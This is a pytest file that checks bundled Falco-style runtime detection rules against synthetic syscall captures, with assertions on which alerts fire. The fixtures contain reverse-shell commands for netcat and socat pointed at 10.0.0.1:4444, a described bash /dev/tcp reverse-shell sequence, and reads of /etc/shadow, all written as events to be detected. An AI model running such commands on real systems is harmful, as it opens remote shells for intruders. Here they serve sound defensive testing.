"""The bundled default rules (rules/): they load, compile, keep Falco's names and
priorities, and load alongside (or instead of) Falco's own rules files unchanged.

Whether each rule fires on real activity is tested by the samples
(tests/test_samples.py: real recordings, expected alerts).
"""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest
import yaml
from fcap.analyze.compile import compile_ruleset
from fcap.analyze.regress.runner import bundled_rule_files, bundled_rules_dir
from fcap.analyze.rules import load_rules

UPSTREAM = (
    "falco_rules.yaml",
    "falco-incubating_rules.yaml",
    "falco-sandbox_rules.yaml",
    "falco_rules-falco-rules-1.0.1.yaml",
    "falco_rules-falco-0.28.1.yaml",
)

#: What the issue asks the bundled rules to catch -> the rule that does.
DEMONSTRATIONS = {
    "terminal shell in a container": "Terminal shell in container",
    "sensitive file read by an untrusted program": "Read sensitive file untrusted",
    "write below /etc": "Write below etc",
    "package manager in a container": "Launch Package Management Process in Container",
    "shell history deleted or truncated": "Delete or rename shell history",
    "setns by an unexpected program": "Change thread namespace",
    "inbound SSH connection": "Disallowed SSH Connection",
    "netcat reverse shell": "Netcat Remote Code Execution in Container",
    "/dev/tcp reverse shell": "Reverse shell on host",
    "dropped-and-executed binary in a container": "Drop and execute new binary in container",
    "execution from /dev/shm": "Execution from /dev/shm",
    "execution from a memfd": "Fileless execution via memfd_create",
    "typed /dev/tcp command": "Reverse shell typed in a shell",
}


def _errors(diags) -> list[str]:
    return [str(d) for d in diags if getattr(d, "is_error", None) or getattr(d, "severity", "") == "error"]


def test_bundled_rules_load_and_compile() -> None:
    files = bundled_rule_files()
    assert [f.name for f in files] == ["fcap_rules.yaml", "fcap_shell_rules.yaml"]
    ruleset = load_rules([str(f) for f in files])
    assert not _errors(ruleset.diagnostics)
    compiled = compile_ruleset(ruleset)
    assert not _errors(compiled.diagnostics)
    names = {r.name for r in ruleset.rules}
    missing = {what: rule for what, rule in DEMONSTRATIONS.items() if rule not in names}
    assert not missing
    # every rule compiles, the typed-command rules (evt.type = shell_line) included
    assert {r.name for r in compiled.rules} == names
    assert not compiled.skipped and not list(compiled.warnings)
    typed = {r.name for r in ruleset.rules
             if str(r.location.file).endswith("fcap_shell_rules.yaml")}  # fmt: skip
    assert len(typed) == 5 and len(names - typed) >= 14


def test_bundled_rules_are_fcap_namespaced() -> None:
    """Macros and lists carry an fcap_ prefix, so Falco's own files keep theirs."""
    for f in bundled_rule_files():
        for item in yaml.safe_load(f.read_text()):
            for kind in ("macro", "list"):
                if kind in item:
                    assert item[kind].startswith("fcap_"), f"{f.name}: {kind} {item[kind]}"
            if "rule" in item:
                assert "fcap" in item.get("tags", []), item["rule"]


def test_rule_names_match_the_sample_expectations() -> None:
    """Every rule named in a sample test exists in the bundled rules (typos fail here)."""
    names = {r.name for r in load_rules([str(f) for f in bundled_rule_files()]).rules}
    samples = bundled_rules_dir().parent / "samples"
    named = set()
    for f in samples.glob("*/*.fcap.yaml"):
        named |= set(re.findall(r"rule: (.+)", f.read_text()))
    assert named, "no sample tests found"
    assert named <= names, named - names


def _upstream(shared_dir: Path, name: str) -> Path:
    return shared_dir / "anchors" / "falco-rules" / name


def _readme_digests(shared_dir: Path) -> dict[str, str]:
    text = (shared_dir / "anchors/falco-rules/README.md").read_text()
    return {m.group(2): m.group(1) for m in re.finditer(r"^([0-9a-f]{64})  (\S+)$", text, re.M)}


@pytest.mark.shared
@pytest.mark.parametrize("name", UPSTREAM)
def test_upstream_rules_load_unchanged_alongside_or_instead(shared_dir: Path, name: str) -> None:
    path = _upstream(shared_dir, name)
    # unchanged: the same bytes as recorded when they were copied from upstream
    assert hashlib.sha256(path.read_bytes()).hexdigest() == _readme_digests(shared_dir)[name]
    ours = [str(f) for f in bundled_rule_files()]
    upstream_names = {r.name for r in load_rules([str(path)]).rules}
    for order in ([str(path)], [str(path), *ours], [*ours, str(path)]):
        ruleset = load_rules(order)
        assert not _errors(ruleset.diagnostics), order
        compiled = compile_ruleset(ruleset)
        assert not _errors(compiled.diagnostics), order
        # Falco's rules keep their (upstream) definitions when loaded after ours
        if order[-1] == str(path):
            got = {r.name for r in ruleset.rules}
            assert upstream_names <= got


@pytest.mark.shared
def test_kept_names_keep_falco_priorities(shared_dir: Path) -> None:
    """A bundled rule with a Falco rule's name has that rule's priority in some Falco release."""
    upstream: dict[str, set[str]] = {}
    for name in UPSTREAM:
        for item in yaml.safe_load(_upstream(shared_dir, name).read_text()):
            if "rule" in item and "priority" in item:
                upstream.setdefault(item["rule"], set()).add(str(item["priority"]).strip().upper())
    ours = load_rules([str(f) for f in bundled_rule_files()]).rules
    kept = [r for r in ours if r.name in upstream]
    assert len(kept) >= 12
    for r in kept:
        assert r.priority.name in upstream[r.name], (r.name, r.priority, upstream[r.name])


def _exec(pid: int, comm: str, argv: list[str], exe: str | None = None, **kw) -> dict:
    return {"syscall": "execve", "pid": pid, "ppid": 100, "comm": comm,
            "exe": exe or f"/usr/bin/{comm}", "argv": argv, **kw}  # fmt: skip


def test_rule_logic_on_a_synthetic_capture(tmp_path: Path) -> None:
    """Cases the recorded samples do not cover: host netcat/socat, and look-alikes
    that must not alert (nc without -e, apt-get on the host, ldconfig below /etc,
    sshd reading /etc/shadow, an outbound SSH connection, a shell under a shell)."""
    from fcap.analyze.regress.engine_bridge import replay_json
    from fcap.capture.synth import make_capture

    net = {"sock_family": 2, "l4proto": 6, "laddr": "10.0.0.5", "raddr": "10.0.0.9"}
    events = [
        _exec(201, "nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]),
        _exec(202, "socat", ["socat", "tcp:10.0.0.1:4444", "exec:/bin/sh"]),
        _exec(203, "nc", ["nc", "-z", "10.0.0.1", "80"]),
        _exec(204, "apt-get", ["apt-get", "update"]),
        _exec(205, "ldconfig", ["ldconfig"]),
        {"syscall": "openat", "pid": 205, "comm": "ldconfig", "path": "/etc/ld.so.cache~",
         "fd": 3, "res": 3, "a2": 0o1101},
        _exec(206, "sshd", ["sshd"], exe="/usr/sbin/sshd"),
        {"syscall": "openat", "pid": 206, "comm": "sshd", "path": "/etc/shadow", "fd": 3,
         "res": 3, "a2": 0},
        {"syscall": "accept4", "pid": 206, "comm": "sshd", "fd": 4, "res": 4, "lport": 22,
         "rport": 50000, **net},
        _exec(207, "ssh", ["ssh", "host"]),
        {"syscall": "connect", "pid": 207, "comm": "ssh", "fd": 3, "res": 0, "lport": 50001,
         "rport": 22, **net},
        _exec(208, "bash", ["bash"], exe="/bin/bash", tty=34816),
        {"syscall": "openat", "pid": 208, "comm": "bash", "path": "/etc/motd", "fd": 3, "res": 3,
         "a2": 0o1101},
    ]  # fmt: skip
    cap = make_capture(
        tmp_path / "synthetic.parquet", events,
        processes=[{"pid": 100, "ppid": 1, "comm": "bash", "exe": "bash", "exepath": "/bin/bash",
                    "argv": ["bash"]}],
    )  # fmt: skip
    got = sorted(
        (a["rule"], a["output_fields"].get("proc.name"))
        for a in replay_json([cap], bundled_rule_files(), "first")
    )
    assert got == [
        ("Disallowed SSH Connection", "sshd"),
        ("Netcat/Socat Remote Code Execution on Host", "nc"),
        ("Netcat/Socat Remote Code Execution on Host", "socat"),
        ("Write below etc", "bash"),
    ]


def _evtgen_tests(shared_dir: Path) -> list[tuple[str, str]]:
    """(rule, priority) of every test in Falco's event-generator suite.

    The files use event-generator templating (not always plain YAML), so the
    two keys are read line by line.
    """
    out = []
    for f in sorted((shared_dir / "anchors/evtgen-suite").glob("*.yaml")):
        rule = None
        for line in f.read_text().splitlines():
            m = re.match(r'\s+rule:\s*"?([^"]+)"?\s*$', line)
            if m:
                rule = m.group(1)
            m = re.match(r"\s+priority:\s*(\w+)", line)
            if m and rule:
                out.append((rule, m.group(1).upper()))
                rule = None
    return out


@pytest.mark.shared
def test_evtgen_rules_we_implement_have_its_priority_and_a_sample(shared_dir: Path) -> None:
    """Falco's e2e suite tests 20 rules; those we also ship keep the expected
    priority and are demonstrated by one of our real recordings."""
    import json

    tests = _evtgen_tests(shared_dir)
    assert len(tests) == 35
    ours = {r.name: r for r in load_rules([str(f) for f in bundled_rule_files()]).rules}
    shared = {(rule, prio) for rule, prio in tests if rule in ours}
    assert len({r for r, _ in shared}) >= 6
    samples = bundled_rules_dir().parent / "samples"
    demonstrated = {json.loads(line)["rule"] for f in samples.glob("*/expected.jsonl")
                    for line in f.read_text().splitlines() if line.strip()}  # fmt: skip
    for rule, prio in shared:
        want = "INFORMATIONAL" if prio == "INFO" else prio
        assert ours[rule].priority.name == want, (rule, ours[rule].priority, prio)
        assert rule in demonstrated, f"no sample demonstrates {rule!r}"


def test_reverse_shell_dup_chain_in_a_forked_shell(tmp_path: Path) -> None:
    """bash's `>& /dev/tcp/H/P 0>&1` in a forked child whose fds 0-2 came from its
    parent: dup2(3,1), close(3), dup2(1,2), dup2(1,0). After the first dup2,
    fd 1 is the socket, so all three dup2 events have a socket as fd (the
    reverse-shell sample recorded exactly this)."""
    from fcap.analyze.regress.engine_bridge import replay_json
    from fcap.capture.synth import make_capture

    parent = {"pid": 300, "ppid": 100, "comm": "bash"}
    child = {"pid": 301, "ppid": 300, "comm": "bash"}
    net = {"sock_family": 2, "l4proto": 6, "laddr": "127.0.0.1", "lport": 45848,
           "raddr": "127.0.0.1", "rport": 4445}  # fmt: skip
    events = [
        {"syscall": "execve", **parent, "exe": "/bin/bash", "argv": ["bash", "-i"]},
        {"syscall": "openat", **parent, "path": "/dev/pts/0", "fd": 0, "res": 0, "a2": 2},
        {"syscall": "dup2", **parent, "fd": 1, "res": 1, "a0": 0, "a1": 1},
        {"syscall": "dup2", **parent, "fd": 2, "res": 2, "a0": 0, "a1": 2},
        {"syscall": "clone", **parent, "res": 301},
        {"syscall": "clone", **child, "res": 0},
        {"syscall": "socket", **child, "fd": 3, "res": 3, "a0": 2, "a1": 1, "sock_family": 2,
         "sock_type": 1},
        {"syscall": "connect", **child, "fd": 3, "res": 0, "a0": 3, **net},
        {"syscall": "dup2", **child, "fd": 1, "res": 1, "a0": 3, "a1": 1},
        {"syscall": "close", **child, "fd": 3, "res": 0, "a0": 3},
        {"syscall": "dup2", **child, "fd": 2, "res": 2, "a0": 1, "a1": 2},
        {"syscall": "dup2", **child, "fd": 0, "res": 0, "a0": 1, "a1": 0},
    ]  # fmt: skip
    cap = make_capture(
        tmp_path / "dup.parquet", events,
        processes=[{"pid": 100, "ppid": 1, "comm": "bash", "exe": "bash", "exepath": "/bin/bash",
                    "argv": ["bash"]}],
    )  # fmt: skip
    alerts = replay_json([cap], bundled_rule_files(), "first")
    got = [(a["rule"], a["output_fields"].get("fd.name")) for a in alerts]
    assert got == [("Reverse shell on host", "127.0.0.1:45848->127.0.0.1:4445")] * 3
